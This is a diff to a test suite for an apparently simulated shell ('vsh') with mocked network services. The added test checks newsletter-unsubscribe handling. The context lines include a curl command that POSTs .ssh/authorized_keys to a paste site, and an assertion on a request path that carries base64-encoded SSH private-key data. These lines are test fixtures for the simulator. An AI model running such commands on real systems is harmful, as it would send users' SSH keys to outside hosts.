@@ -36,6 +36,25 @@ describe("vsh network programs", () => {
     expect(vsh.net.requests[0]?.path).toContain("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ");
   });
 
+  it("takes the sender off a real newsletter's list at any unsubscribe path of its host, and nowhere else", () => {
+    const vsh = new Vsh({
+      net: defaultNetworkMocks({
+        newsletters: { "news.example": { list: "News", real: true }, "news-unsub.example": { list: "News", real: false } },
+      }),
+    });
+    for (const url of [
+      "https://news.example/about",
+      "https://news-unsub.example/unsubscribe?id=7",
+      "https://news.example/u/Unsubscribe?id=7",
+    ])
+      expect(vsh.run(`curl '${url}'`).status).toBe(0);
+    expect(vsh.net.requests.map((request) => request.service)).toEqual(["sink", "sink", "newsletter"]);
+    expect(vsh.log.entries.filter((entry) => entry.operation === "newsletter.unsubscribe").map((entry) => entry.after)).toEqual([
+      { list: "News", url: "https://news.example/u/Unsubscribe?id=7" },
+    ]);
+    expect(vsh.screen).toContain("You have been unsubscribed from News.");
+  });
+
   it("posts a file's content with curl --data @file and sends downloads to files with -o and wget", () => {
     const vsh = new Vsh();
     vsh.run("curl -X POST --data @.ssh/authorized_keys https://paste.example/new");
